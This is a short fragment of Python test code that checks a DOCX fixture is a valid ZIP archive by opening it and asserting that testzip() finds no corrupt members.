    """The fixtures' own check: what is called a DOCX here opens as a ZIP."""
    with zipfile.ZipFile(BytesIO(DOCX)) as package:
        assert package.testzip() is None
